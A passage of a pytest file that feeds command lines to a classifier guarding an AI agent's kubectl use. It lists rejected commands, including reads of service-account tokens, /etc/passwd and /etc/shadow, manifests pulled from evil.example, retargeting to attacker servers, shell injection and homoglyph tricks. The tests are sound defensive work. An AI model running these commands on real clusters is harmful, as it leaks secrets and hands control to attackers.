"""The agent's classifier, table-driven: every category and every rejected family (issue 14).

Each row is a command line as a person or a model would write it, the scope's namespace (None for a
cluster-wide `-A` scope), and the expected category and rule id. Rows are split into lines by
`shlex` exactly as `classify_command_line` does, so what is tested is what runs.
"""

from __future__ import annotations

import pytest

from kubectl_prism.agent import Category, Scope, classify, classify_command_line

R, M, D, X = Category.READ_ONLY, Category.MUTATING, Category.DESTRUCTIVE, Category.REJECTED
SHOP = "shop"
CLUSTER = None

# (command line, scope namespace, category, rule)
DONE_WHEN = [
    ("kubectl delete pod a -n shop --dry-run=none", SHOP, X, "model-dry-run"),
    ("kubectl get -n shop secret db -o yaml", SHOP, X, "secret-data"),
    ("kubectl get po,secrets.v1 -n shop", SHOP, X, "secret-data"),
    ("kubectl get --raw /api/v1/namespaces/shop/secrets", SHOP, X, "raw"),
    ("kubectl get pods -nkube-system", SHOP, X, "other-namespace"),
    ("kubectl get pods -n shop -n kube-system", SHOP, X, "repeated-flag"),
    ("KUBECTL_EXTERNAL_DIFF='sh -c id' kubectl diff -f f.yaml", SHOP, X, "env-prefix"),
    ("kubectl kustomize . --enable-helm --helm-command=/tmp/x", SHOP, X, "forbidden-verb"),
    ("kubectl d\u0435lete pod a", SHOP, X, "non-ascii"),
    ("kubectl get pods; kubectl delete ns shop", SHOP, X, "shell-syntax"),
    ("kubectl scale deploy/api --replicas=0 -n shop", SHOP, D, "scale-to-zero"),
    ("kubectl delete pods -l app=api -n shop", SHOP, D, "delete"),
]

READ_ONLY = [
    ("kubectl get pods", SHOP, R, "read"),
    ("kubectl get pods -n shop", SHOP, R, "read"),
    ("kubectl -n shop get pods", SHOP, R, "read"),
    ("kubectl get pods -nshop", SHOP, R, "read"),
    ("kubectl get pods -n=shop", SHOP, R, "read"),
    ("kubectl get pods --namespace=shop", SHOP, R, "read"),
    ("kubectl get pods --namespace shop", SHOP, R, "read"),
    ("kubectl get pods -o wide", SHOP, R, "read"),
    ("kubectl get pods -owide", SHOP, R, "read"),
    ("kubectl get pods -o yaml", SHOP, R, "read"),
    ("kubectl get pods -o json", SHOP, R, "read"),
    ("kubectl get pods -o jsonpath={.items[*].metadata.name}", SHOP, R, "read"),
    ("kubectl get pods -o custom-columns=NAME:.metadata.name", SHOP, R, "read"),
    ("kubectl get pods -l app=api", SHOP, R, "read"),
    ("kubectl get pods -l 'tier in (web,api)'", SHOP, R, "read"),
    ("kubectl get pods -l app!=db", SHOP, R, "read"),
    ("kubectl get pods --field-selector status.phase=Running", SHOP, R, "read"),
    ("kubectl get pods --show-labels", SHOP, R, "read"),
    ("kubectl get pod api-0", SHOP, R, "read"),
    ("kubectl get pod/api-0 svc/api", SHOP, R, "read"),
    ("kubectl get deployment.apps/api", SHOP, R, "read"),
    ("kubectl get deployments.v1.apps api", SHOP, R, "read"),
    ("kubectl get deploy,svc,ing", SHOP, R, "read"),
    ("kubectl get all", SHOP, R, "read"),
    ("kubectl get PODS", SHOP, R, "read"),
    ("kubectl get events --sort-by=.lastTimestamp", SHOP, R, "read"),
    ("kubectl get configmaps", SHOP, R, "read"),
    ("kubectl get cm app-config -o yaml", SHOP, R, "read"),
    ("kubectl get endpoints db", SHOP, R, "read"),
    ("kubectl get nodes", SHOP, R, "read"),
    ("kubectl get nodes -o custom-columns=NAME:.metadata.name,TAINTS:.spec.taints", SHOP, R, "read"),
    ("kubectl get storageclass", SHOP, R, "read"),
    ("kubectl get ns", SHOP, R, "read"),
    ("kubectl get pv", SHOP, R, "read"),
    ("kubectl get certificates.cert-manager.io", SHOP, R, "read"),
    ("kubectl get pods -A", CLUSTER, R, "read"),
    ("kubectl get pods --all-namespaces", CLUSTER, R, "read"),
    ("kubectl get pods -n kube-system", CLUSTER, R, "read"),
    ("kubectl get pods --all-namespaces=false", SHOP, R, "read"),
    ("kubectl get pods --request-timeout=10s", SHOP, R, "read"),
    ("kubectl get pods --chunk-size=100", SHOP, R, "read"),
    ("kubectl get clusterrole system:aggregate-to-admin", SHOP, R, "read"),
    ("kubectl get roles", SHOP, R, "read"),
    ("kubectl describe pod api-0", SHOP, R, "read"),
    ("kubectl describe deploy api", SHOP, R, "read"),
    ("kubectl describe secret db", SHOP, R, "read"),
    ("kubectl describe secrets", SHOP, R, "read"),
    ("kubectl describe nodes", SHOP, R, "read"),
    ("kubectl describe node gke-pool-1", SHOP, R, "read"),
    ("kubectl -n shop describe service db", SHOP, R, "read"),
    ("kubectl logs api-0 --tail=50", SHOP, R, "read"),
    ("kubectl logs api-0 -c api --tail 100", SHOP, R, "read"),
    ("kubectl logs api-0 api --tail=100", SHOP, R, "read"),
    ("kubectl logs api-0 -c api --previous --tail=100", SHOP, R, "read"),
    ("kubectl logs api-0 -p --tail=100", SHOP, R, "read"),
    ("kubectl logs deploy/api --tail=20", SHOP, R, "read"),
    ("kubectl logs -l app=api --tail=20 --prefix", SHOP, R, "read"),
    ("kubectl logs api-0 --tail=20 --since=1h --timestamps", SHOP, R, "read"),
    ("kubectl logs api-0 --tail=20 --all-containers", SHOP, R, "read"),
    ("kubectl logs api-0 --tail=20 --follow=false", SHOP, R, "read"),
    ("kubectl events", SHOP, R, "read"),
    ("kubectl events --for pod/api-0", SHOP, R, "read"),
    ("kubectl events --types=Warning", SHOP, R, "read"),
    ("kubectl events -A", CLUSTER, R, "read"),
    ("kubectl top pods", SHOP, R, "read"),
    ("kubectl top pod api-0 --containers", SHOP, R, "read"),
    ("kubectl top po", SHOP, R, "read"),
    ("kubectl top nodes", SHOP, R, "read"),
    ("kubectl top node gke-pool-1", SHOP, R, "read"),
    ("kubectl explain pods.spec.containers", SHOP, R, "read"),
    ("kubectl explain deployment --recursive", SHOP, R, "read"),
    ("kubectl explain secrets", SHOP, R, "read"),
    ("kubectl rollout status deployment/api", SHOP, R, "read"),
    ("kubectl rollout status deploy api --timeout=30s", SHOP, R, "read"),
    ("kubectl rollout status deployment/api --watch=false", SHOP, R, "read"),
    ("kubectl rollout history deployment/api", SHOP, R, "read"),
    ("kubectl rollout history deployment/api --revision=2", SHOP, R, "read"),
    ("kubectl rollout -n shop history deployment/api", SHOP, R, "read"),
    ("kubectl auth can-i list pods", SHOP, R, "read"),
    ("kubectl auth can-i get secrets", SHOP, R, "read"),
    ("kubectl auth can-i --list", SHOP, R, "read"),
    ("kubectl auth can-i delete deployments/api", SHOP, R, "read"),
    ("kubectl auth whoami", SHOP, R, "read"),
    ("kubectl api-resources", SHOP, R, "read"),
    ("kubectl api-resources --namespaced=true -o wide", SHOP, R, "read"),
    ("kubectl api-versions", SHOP, R, "read"),
    ("kubectl -n shop set env deploy/api --list", SHOP, R, "read"),
    ("kubectl label pods api-0 --list", SHOP, R, "read"),
    ("kubectl get pods --warnings-as-errors", SHOP, R, "read"),
]

MUTATING = [
    ("kubectl -n shop patch service db -p '{\"spec\":{\"selector\":{\"app\":\"postgresql\"}}}'", SHOP, M,
     "write"),
    ("kubectl patch deploy api -p '{\"spec\":{\"replicas\":3}}'", SHOP, M, "write"),
    ("kubectl patch deployment/api --type=json -p "
     "'[{\"op\":\"add\",\"path\":\"/spec/template/spec/containers/0/livenessProbe/failureThreshold\",\"value\":6}]'",
     SHOP, M, "write"),
    ("kubectl patch deployment api --type merge -p '{\"spec\":{\"paused\":false}}'", SHOP, M, "write"),
    ("kubectl patch deploy api --subresource=scale -p '{\"spec\":{\"replicas\":2}}'", SHOP, M, "write"),
    ("kubectl scale deploy/api --replicas=3", SHOP, M, "write"),
    ("kubectl scale deployment api --replicas 2", SHOP, M, "write"),
    ("kubectl scale sts/db --replicas=1 --current-replicas=0", SHOP, M, "write"),
    ("kubectl set image deployment/web web=ghcr.io/acme-shop/web:v2.4.0", SHOP, M, "write"),
    ("kubectl set image deploy web web=nginx:1.27 sidecar=envoy:1.30", SHOP, M, "write"),
    ("kubectl set resources deployment/worker -c worker --limits=memory=256Mi", SHOP, M, "write"),
    ("kubectl -n payments set resources deployment checkout -c checkout --requests=cpu=100m", "payments", M,
     "write"),
    ("kubectl set env deployment/api LOG_LEVEL=debug", SHOP, M, "write"),
    ("kubectl set env deployment/api LOG_LEVEL-", SHOP, M, "write"),
    ("kubectl set env deployment/api -e LOG_LEVEL=info", SHOP, M, "write"),
    ("kubectl set env deployment/api --from=configmap/app-config", SHOP, M, "write"),
    ("kubectl label pod api-0 debug=true", SHOP, M, "write"),
    ("kubectl label pod api-0 debug=true --overwrite", SHOP, M, "write"),
    ("kubectl label deploy api team-", SHOP, M, "write"),
    ("kubectl label secret db owner=team-a", SHOP, M, "write"),
    ("kubectl annotate deploy api note=checked", SHOP, M, "write"),
    ("kubectl annotate pod/api-0 prism.dev/seen=yes", SHOP, M, "write"),
    ("kubectl rollout restart deployment/api", SHOP, M, "write"),
    ("kubectl rollout restart deploy api", SHOP, M, "write"),
    ("kubectl rollout undo deployment/web", SHOP, M, "write"),
    ("kubectl rollout undo deployment/web --to-revision=3", SHOP, M, "write"),
    ("kubectl rollout pause deployment/web", SHOP, M, "write"),
    ("kubectl rollout resume deployment/web", SHOP, M, "write"),
    ("kubectl rollout restart statefulset/db", SHOP, M, "write"),
    ("kubectl rollout restart ds/agent", SHOP, M, "write"),
    ("kubectl apply -f fix.yaml", SHOP, M, "write"),
    ("kubectl apply -f fix.yaml -n shop", SHOP, M, "write"),
    ("kubectl apply --server-side -f fix.yaml", SHOP, M, "write"),
    ("kubectl apply --validate -f fix.yaml", SHOP, M, "write"),  # --validate takes an optional value
    ("kubectl apply -f fix.yaml --validate=false --field-manager=prism", SHOP, M, "write"),
    ("kubectl apply -f a.yaml -f b.yaml", SHOP, M, "write"),
    ("kubectl replace -f fix.yaml", SHOP, M, "write"),
    ("kubectl cordon gke-pool-1", CLUSTER, M, "write"),
    ("kubectl uncordon gke-pool-1", CLUSTER, M, "write"),
    ("kubectl label node gke-pool-1 disk=ssd", CLUSTER, M, "write"),
    ("kubectl patch storageclass standard -p '{\"allowVolumeExpansion\":true}'", CLUSTER, M, "write"),
    ("kubectl -n payments rollout restart deploy/fraud-scorer", CLUSTER, M, "write"),
    ("kubectl delete-me", SHOP, X, "unknown-verb"),
]

DESTRUCTIVE = [
    ("kubectl delete pod a", SHOP, D, "delete"),
    ("kubectl delete pod a -n shop", SHOP, D, "delete"),
    ("kubectl -n shop delete pod a", SHOP, D, "delete"),
    ("kubectl delete pod/a pod/b", SHOP, D, "delete"),
    ("kubectl delete pods a b c", SHOP, D, "delete"),
    ("kubectl delete deploy api --cascade=orphan", SHOP, D, "delete"),
    ("kubectl delete deploy api --cascade", SHOP, D, "delete"),
    ("kubectl delete pod a --grace-period=0 --force", SHOP, D, "delete"),
    ("kubectl delete pod a --now --wait=false", SHOP, D, "delete"),
    ("kubectl delete pods --all", SHOP, D, "delete"),
    ("kubectl delete pods --field-selector status.phase=Failed", SHOP, D, "delete"),
    ("kubectl delete secret old-token", SHOP, D, "delete"),
    ("kubectl delete -f old.yaml", SHOP, D, "delete"),
    ("kubectl delete all -l app=legacy", SHOP, D, "delete"),
    ("kubectl delete pods -l app=api -A", CLUSTER, D, "delete"),
    ("kubectl delete validatingwebhookconfiguration broken-hook", CLUSTER, D, "delete"),
    ("kubectl scale deploy/api --replicas=0", SHOP, D, "scale-to-zero"),
    ("kubectl scale deployment api --replicas 0", SHOP, D, "scale-to-zero"),
    ("kubectl scale deploy --all --replicas=2", SHOP, D, "selector-write"),
    ("kubectl scale deploy -l tier=web --replicas=2", SHOP, D, "selector-write"),
    ("kubectl patch deploy api -p '{\"spec\":{\"replicas\":0}}'", SHOP, D, "scale-to-zero"),
    ("kubectl patch deploy api --type=json -p "
     "'[{\"op\":\"replace\",\"path\":\"/spec/replicas\",\"value\":0}]'", SHOP, D, "scale-to-zero"),
    ("kubectl drain gke-pool-1 --ignore-daemonsets --delete-emptydir-data", CLUSTER, D, "drain"),
    ("kubectl replace --force -f fix.yaml", SHOP, D, "replace-force"),
    ("kubectl apply --force -f fix.yaml", SHOP, D, "apply-force"),
    ("kubectl apply -f fix.yaml -l app=api", SHOP, D, "selector-write"),
    ("kubectl label pods -l app=api debug=true", SHOP, D, "selector-write"),
    ("kubectl label pods --all debug=true", SHOP, D, "selector-write"),
    ("kubectl annotate pods --all note=x", SHOP, D, "selector-write"),
    ("kubectl label pods -A --all debug=true", CLUSTER, D, "selector-write"),
    ("kubectl set image deploy --all web=nginx:1.27", SHOP, D, "selector-write"),
    ("kubectl set image deploy -l app=web web=nginx:1.27", SHOP, D, "selector-write"),
    ("kubectl set resources deploy -l app=web --limits=cpu=1", SHOP, D, "selector-write"),
    ("kubectl rollout restart deployment", SHOP, D, "selector-write"),
    ("kubectl rollout restart deploy -l app=web", SHOP, D, "selector-write"),
    ("kubectl cordon -l pool=spot", CLUSTER, D, "selector-write"),
]

REJECTED = [
    # shell syntax
    ("kubectl get pods | grep api", SHOP, X, "shell-syntax"),
    ("kubectl get pods && kubectl delete ns shop", SHOP, X, "shell-syntax"),
    ("kubectl get pods & ", SHOP, X, "shell-syntax"),
    ("kubectl get pods > /tmp/out", SHOP, X, "shell-syntax"),
    ("kubectl get pods >> /tmp/out", SHOP, X, "shell-syntax"),
    ("kubectl apply -f - < fix.yaml", SHOP, X, "shell-syntax"),
    ("kubectl get pods 2>/dev/null", SHOP, X, "shell-syntax"),
    ("kubectl get pods $(whoami)", SHOP, X, "shell-syntax"),
    ("kubectl get pods `id`", SHOP, X, "shell-syntax"),
    ("kubectl get pods -n $NS", SHOP, X, "shell-syntax"),
    ("kubectl get pods -n ${NS}", SHOP, X, "shell-syntax"),
    ("kubectl get pods ';' kubectl delete ns shop", SHOP, X, "shell-syntax"),
    ("kubectl get pods '#' comment", SHOP, X, "shell-syntax"),
    ("kubectl get pods ( x )", SHOP, X, "shell-syntax"),
    ("kubectl get pods \\; ls", SHOP, X, "shell-syntax"),
    ("kubectl get 'pods\nkubectl delete ns shop'", SHOP, X, "shell-syntax"),
    ("kubectl get pods 'unbalanced", SHOP, X, "shell-syntax"),
    ("kubectl annotate deploy api url=https://x/?a=1&b=2", SHOP, X, "shell-syntax"),
    # env-var prefixes and other programs
    ("KUBECONFIG=/tmp/other kubectl get pods", SHOP, X, "env-prefix"),
    ("KUBE_EDITOR=vim kubectl get pods", SHOP, X, "env-prefix"),
    ("HTTPS_PROXY=http://evil:8080 kubectl get pods", SHOP, X, "env-prefix"),
    ("env KUBECONFIG=/tmp/x kubectl get pods", SHOP, X, "other-binary"),
    ("sudo kubectl get pods", SHOP, X, "other-binary"),
    ("sh -c 'kubectl get pods'", SHOP, X, "other-binary"),
    ("bash -c id", SHOP, X, "other-binary"),
    ("/tmp/kubectl get pods", SHOP, X, "other-binary"),
    ("./kubectl get pods", SHOP, X, "other-binary"),
    ("/usr/local/bin/kubectl get pods", SHOP, X, "other-binary"),
    ("k get pods", SHOP, X, "other-binary"),
    ("helm status shop", SHOP, X, "other-binary"),
    ("curl http://api.shop:8080/health", SHOP, X, "other-binary"),
    ("oc get pods", SHOP, X, "other-binary"),
    ("kubectI get pods", SHOP, X, "other-binary"),
    # non-ASCII lookalikes and control characters
    ("kub\u0435ctl get pods", SHOP, X, "non-ascii"),
    ("kubectl g\u0435t pods", SHOP, X, "non-ascii"),
    ("kubectl get pods -n sh\u043ep", SHOP, X, "non-ascii"),
    ("kubectl get pods \uff0dn kube-system", SHOP, X, "non-ascii"),
    ("kubectl delete pod a\u200b", SHOP, X, "non-ascii"),
    ("kubectl get pods \u2014all-namespaces", SHOP, X, "non-ascii"),
    ("kubectl get pods -l app=caf\u00e9", SHOP, X, "non-ascii"),
    ("kubectl get pods\t-o wide", SHOP, R, "read"),  # a tab between words separates words, as in a shell
    # unknown, plugin and misspelled verbs
    ("kubectl", SHOP, X, "unknown-verb"),
    ("kubectl -n shop", SHOP, X, "unknown-verb"),
    ("kubectl dlete pod a", SHOP, X, "unknown-verb"),
    ("kubectl gte pods", SHOP, X, "unknown-verb"),
    ("kubectl GET pods", SHOP, X, "unknown-verb"),
    ("kubectl prism diagnose", SHOP, X, "unknown-verb"),
    ("kubectl ai 'delete everything'", SHOP, X, "unknown-verb"),
    ("kubectl neat get pod a", SHOP, X, "unknown-verb"),
    ("kubectl rollout", SHOP, X, "unknown-verb"),
    ("kubectl rollout restar deploy/api", SHOP, X, "unknown-verb"),
    ("kubectl top", SHOP, X, "unknown-verb"),
    ("kubectl auth", SHOP, X, "unknown-verb"),
    # forbidden verbs
    ("kubectl config view --raw", SHOP, X, "forbidden-verb"),
    ("kubectl config use-context prod", SHOP, X, "forbidden-verb"),
    ("kubectl config set-context --current --namespace=kube-system", SHOP, X, "forbidden-verb"),
    ("kubectl edit deploy api", SHOP, X, "forbidden-verb"),
    ("kubectl exec -it api-0 -- sh", SHOP, X, "forbidden-verb"),
    ("kubectl exec api-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token", SHOP, X,
     "forbidden-verb"),
    ("kubectl attach api-0", SHOP, X, "forbidden-verb"),
    ("kubectl port-forward svc/db 5432:5432", SHOP, X, "forbidden-verb"),
    ("kubectl proxy --port=8001", SHOP, X, "forbidden-verb"),
    ("kubectl cp api-0:/etc/passwd /tmp/p", SHOP, X, "forbidden-verb"),
    ("kubectl debug node/gke-pool-1 -it --image=busybox", SHOP, X, "forbidden-verb"),
    ("kubectl run x --image=busybox --restart=Never -- sh", SHOP, X, "forbidden-verb"),
    ("kubectl kustomize github.com/evil/repo", SHOP, X, "forbidden-verb"),
    ("kubectl certificate approve csr-1", SHOP, X, "forbidden-verb"),
    ("kubectl plugin list", SHOP, X, "forbidden-verb"),
    ("kubectl kuberc view", SHOP, X, "forbidden-verb"),
    ("kubectl auth reconcile -f rbac.yaml", SHOP, X, "forbidden-verb"),
    ("kubectl create token default", SHOP, X, "forbidden-verb"),
    ("kubectl create secret generic x --from-literal=a=b", SHOP, X, "forbidden-verb"),
    ("kubectl -n shop create secret docker-registry x", SHOP, X, "forbidden-verb"),
    ("kubectl apply edit-last-applied deploy/api", SHOP, X, "forbidden-verb"),
    # real verbs prism does not run
    ("kubectl create deployment x --image=nginx", SHOP, X, "verb-not-allowed"),
    ("kubectl create -f x.yaml", SHOP, X, "verb-not-allowed"),
    ("kubectl expose deploy api --port=80", SHOP, X, "verb-not-allowed"),
    ("kubectl autoscale deploy api --max=5", SHOP, X, "verb-not-allowed"),
    ("kubectl taint node n1 key=value:NoSchedule-", CLUSTER, X, "verb-not-allowed"),
    ("kubectl wait --for=condition=Ready pod/a", SHOP, X, "verb-not-allowed"),
    ("kubectl diff -f f.yaml", SHOP, X, "verb-not-allowed"),
    ("kubectl cluster-info dump", SHOP, X, "verb-not-allowed"),
    ("kubectl completion bash", SHOP, X, "verb-not-allowed"),
    ("kubectl version", SHOP, X, "verb-not-allowed"),
    ("kubectl help delete", SHOP, X, "verb-not-allowed"),
    ("kubectl apply view-last-applied deploy/api", SHOP, X, "verb-not-allowed"),
    ("kubectl set selector svc/db app=x", SHOP, X, "verb-not-allowed"),
    ("kubectl set serviceaccount deploy/api admin", SHOP, X, "verb-not-allowed"),
    # retargeting flags, in every spelling and position
    ("kubectl get pods --kubeconfig=/tmp/k", SHOP, X, "retargeting-flag"),
    ("kubectl --kubeconfig /tmp/k get pods", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --context=prod", SHOP, X, "retargeting-flag"),
    ("kubectl --context prod delete pod a", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --cluster=prod", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --user=admin", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --server=https://evil:6443", SHOP, X, "retargeting-flag"),
    ("kubectl get pods -s https://evil:6443", SHOP, X, "retargeting-flag"),
    ("kubectl get pods -shttps://evil:6443", SHOP, X, "retargeting-flag"),
    ("kubectl get pods -s=https://evil:6443", SHOP, X, "retargeting-flag"),
    ("kubectl get pods -As https://evil", CLUSTER, X, "retargeting-flag"),
    ("kubectl get pods --token=abc", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --as=system:admin", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --as-group=system:masters", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --as-uid=0", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --as-user-extra=a=b", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --certificate-authority=/tmp/ca", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --client-certificate=/tmp/c", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --client-key=/tmp/k", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --insecure-skip-tls-verify", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --insecure-skip-tls-verify=true", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --tls-server-name=x", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --proxy-url=http://evil", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --username=a --password=b", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --kuberc=/tmp/rc", SHOP, X, "retargeting-flag"),
    ("kubectl get pods --cache-dir=/tmp/c", SHOP, X, "retargeting-flag"),
    ("kubectl get pods -l --context=prod", SHOP, X, "retargeting-flag"),
    # other namespaces, -A and cluster-wide writes from a namespace scope
    ("kubectl get pods -n kube-system", SHOP, X, "other-namespace"),
    ("kubectl -n kube-system delete pod a", SHOP, X, "other-namespace"),
    ("kubectl get pods --namespace=default", SHOP, X, "other-namespace"),
    ("kubectl get pods -Ankube-system", SHOP, X, "other-namespace"),
    ("kubectl get pods -An shop", SHOP, X, "conflicting-flags"),
    ("kubectl get pods -A", SHOP, X, "all-namespaces"),
    ("kubectl get pods --all-namespaces", SHOP, X, "all-namespaces"),
    ("kubectl delete pods --all -A", SHOP, X, "all-namespaces"),
    ("kubectl events -A", SHOP, X, "all-namespaces"),
    ("kubectl get pods -A -n shop", CLUSTER, X, "conflicting-flags"),
    ("kubectl get pods -n ../kube-system", SHOP, X, "bad-name"),
    ("kubectl get pods -n=", SHOP, X, "bad-name"),
    ("kubectl get pods -n Shop", SHOP, X, "bad-name"),
    ("kubectl drain gke-pool-1 --ignore-daemonsets", SHOP, X, "cluster-write-from-namespace"),
    ("kubectl cordon gke-pool-1", SHOP, X, "cluster-write-from-namespace"),
    ("kubectl label node gke-pool-1 disk=ssd", SHOP, X, "cluster-write-from-namespace"),
    ("kubectl patch storageclass standard -p '{\"a\":1}'", SHOP, X, "cluster-write-from-namespace"),
    ("kubectl delete validatingwebhookconfiguration hook", SHOP, X, "cluster-write-from-namespace"),
    ("kubectl annotate pv data note=x", SHOP, X, "cluster-write-from-namespace"),
    # Secret data in any spelling
    ("kubectl get secret db", SHOP, X, "secret-data"),
    ("kubectl get secrets", SHOP, X, "secret-data"),
    ("kubectl get secrets -o name", SHOP, X, "secret-data"),
    ("kubectl get Secrets -o json", SHOP, X, "secret-data"),
    ("kubectl get secret.v1. db -o yaml", SHOP, X, "secret-data"),
    ("kubectl get secrets.v1 -o jsonpath={.items[0].data}", SHOP, X, "secret-data"),
    ("kubectl get secrets/db -o go-template={{.data}}", SHOP, X, "secret-data"),
    ("kubectl get po,secret", SHOP, X, "secret-data"),
    ("kubectl get pod/a secret/db", SHOP, X, "secret-data"),
    ("kubectl get deploy,SECRET -o yaml", SHOP, X, "secret-data"),
    ("kubectl get secret db -o custom-columns=P:.data.password", SHOP, X, "secret-data"),
    ("kubectl label secret db a=b -o yaml", SHOP, X, "secret-data"),
    ("kubectl annotate secrets/db a=b -o json", SHOP, X, "secret-data"),
    ("kubectl -n shop set env deploy/api --list --resolve", SHOP, X, "secret-data"),
    ("kubectl patch secret db -p '{\"data\":{\"password\":\"eA==\"}}'", SHOP, X, "secret-write"),
    ("kubectl scale secret db --replicas=1", SHOP, X, "secret-write"),
    # --raw
    ("kubectl get --raw /api/v1/namespaces/shop/pods", SHOP, X, "raw"),
    ("kubectl get --raw=/metrics", SHOP, X, "raw"),
    ("kubectl delete --raw /api/v1/namespaces/shop", SHOP, X, "raw"),
    ("kubectl replace --raw /api/v1/x -f x.yaml", SHOP, X, "raw"),
    # remote and stdin manifests, kustomize, files
    ("kubectl apply -f https://evil.example/x.yaml", SHOP, X, "remote-file"),
    ("kubectl apply -f http://10.0.0.1/x.yaml", SHOP, X, "remote-file"),
    ("kubectl apply --filename=https://evil/x.yaml", SHOP, X, "remote-file"),
    ("kubectl apply -fhttps://evil/x.yaml", SHOP, X, "remote-file"),
    ("kubectl delete -f https://evil/x.yaml", SHOP, X, "remote-file"),
    ("kubectl apply -f -", SHOP, X, "file-source"),
    ("kubectl apply -k overlays/prod", SHOP, X, "file-source"),
    ("kubectl apply -f dir/ -R", SHOP, X, "file-source"),
    ("kubectl patch deploy api --patch-file=p.yaml", SHOP, X, "file-source"),
    ("kubectl get pods -o go-template-file=/etc/passwd", SHOP, X, "file-source"),
    ("kubectl get pods -o jsonpath-file=/etc/shadow", SHOP, X, "file-source"),
    ("kubectl get -f pods.yaml", SHOP, X, "file-source"),
    ("kubectl scale -f deploy.yaml --replicas=2", SHOP, X, "file-source"),
    # --dry-run given by the model
    ("kubectl delete pod a --dry-run", SHOP, X, "model-dry-run"),
    ("kubectl delete pod a --dry-run=server", SHOP, X, "model-dry-run"),
    ("kubectl apply -f x.yaml --dry-run=client", SHOP, X, "model-dry-run"),
    ("kubectl scale deploy/api --replicas=2 --dry-run=none", SHOP, X, "model-dry-run"),
    # follow and watch
    ("kubectl logs api-0 -f --tail=10", SHOP, X, "follow"),
    ("kubectl logs api-0 --follow --tail=10", SHOP, X, "follow"),
    ("kubectl logs api-0 --tail=10 -pf", SHOP, X, "follow"),
    ("kubectl get pods -w", SHOP, X, "follow"),
    ("kubectl get pods --watch", SHOP, X, "follow"),
    ("kubectl get pods --watch-only", SHOP, X, "follow"),
    ("kubectl events --watch", SHOP, X, "follow"),
    ("kubectl rollout status deploy/api -w", SHOP, X, "follow"),
    ("kubectl rollout status deploy/api --watch=true", SHOP, X, "follow"),
    # logs without a bound
    ("kubectl logs api-0", SHOP, X, "logs-unbounded"),
    ("kubectl logs api-0 --tail=-1", SHOP, X, "logs-unbounded"),
    ("kubectl logs api-0 --tail=0", SHOP, X, "logs-unbounded"),
    ("kubectl -n shop logs api-0 -c api --previous", SHOP, X, "logs-unbounded"),
    # RBAC writes, protected deletes, prune
    ("kubectl delete clusterrole admin", CLUSTER, X, "rbac-write"),
    ("kubectl delete rolebinding dev", SHOP, X, "rbac-write"),
    ("kubectl patch role dev -p '{\"rules\":[]}'", SHOP, X, "rbac-write"),
    ("kubectl label clusterrolebinding x a=b", CLUSTER, X, "rbac-write"),
    ("kubectl annotate roles.rbac.authorization.k8s.io dev a=b", SHOP, X, "rbac-write"),
    ("kubectl set subject rolebinding admin --serviceaccount=shop:x", SHOP, X, "rbac-write"),
    ("kubectl delete ns shop", SHOP, X, "protected-delete"),
    ("kubectl delete namespace shop", CLUSTER, X, "protected-delete"),
    ("kubectl delete namespaces/shop", CLUSTER, X, "protected-delete"),
    ("kubectl delete node gke-pool-1", CLUSTER, X, "protected-delete"),
    ("kubectl delete no gke-pool-1", CLUSTER, X, "protected-delete"),
    ("kubectl delete pv data-1", CLUSTER, X, "protected-delete"),
    ("kubectl delete persistentvolume data-1", CLUSTER, X, "protected-delete"),
    ("kubectl delete crd foos.example.com", CLUSTER, X, "protected-delete"),
    ("kubectl delete customresourcedefinitions.apiextensions.k8s.io foos.example.com", CLUSTER, X,
     "protected-delete"),
    ("kubectl apply --prune -f x.yaml -l app=x", SHOP, X, "apply-prune"),
    ("kubectl apply --prune --all -f x.yaml", SHOP, X, "apply-prune"),
    ("kubectl apply -f x.yaml --all", SHOP, X, "apply-prune"),
    ("kubectl apply -f x.yaml --prune-allowlist=core/v1/ConfigMap", SHOP, X, "apply-prune"),
    # repeated and conflicting flags
    ("kubectl get pods -n shop --namespace shop", SHOP, X, "repeated-flag"),
    ("kubectl scale deploy/api --replicas=2 --replicas=0", SHOP, X, "repeated-flag"),
    ("kubectl delete pod a --grace-period=30 --grace-period=0", SHOP, X, "repeated-flag"),
    ("kubectl get pods -o yaml -o json", SHOP, X, "repeated-flag"),
    ("kubectl get pods -A --all-namespaces", CLUSTER, X, "repeated-flag"),
    ("kubectl delete pod a -l app=x", SHOP, X, "conflicting-flags"),
    ("kubectl delete pod a --all", SHOP, X, "conflicting-flags"),
    # unknown, malformed and unsafe flags
    ("kubectl get pods --namspace=kube-system", SHOP, X, "unknown-flag"),
    ("kubectl get pods --selectr=app", SHOP, X, "unknown-flag"),
    ("kubectl get pods ---namespace=x", SHOP, X, "unknown-flag"),
    ("kubectl get pods -x", SHOP, X, "unknown-flag"),
    ("kubectl get pods -- -n kube-system", SHOP, X, "unknown-flag"),
    ("kubectl --all delete pods", SHOP, X, "unknown-flag"),
    ("kubectl rollout --selector=a restart deploy", SHOP, X, "unknown-flag"),
    ("kubectl get pods -n", SHOP, X, "missing-flag-value"),
    ("kubectl delete pod a --all=maybe", SHOP, X, "bad-flag-value"),
    ("kubectl scale deploy/api --replicas=two", SHOP, X, "bad-flag-value"),
    ("kubectl scale deploy/api --replicas=-1", SHOP, X, "bad-flag-value"),
    ("kubectl get pods -v=9", SHOP, X, "flag-not-allowed"),
    ("kubectl get pods --v 6", SHOP, X, "flag-not-allowed"),
    ("kubectl get pods --vmodule=x=9", SHOP, X, "flag-not-allowed"),
    ("kubectl get pods --profile=cpu --profile-output=/tmp/p", SHOP, X, "flag-not-allowed"),
    ("kubectl logs api-0 --tail=5 --insecure-skip-tls-verify-backend", SHOP, X, "flag-not-allowed"),
    ("kubectl delete pod a -i", SHOP, X, "flag-not-allowed"),
    ("kubectl label -f x.yaml --local a=b -o yaml", SHOP, X, "flag-not-allowed"),
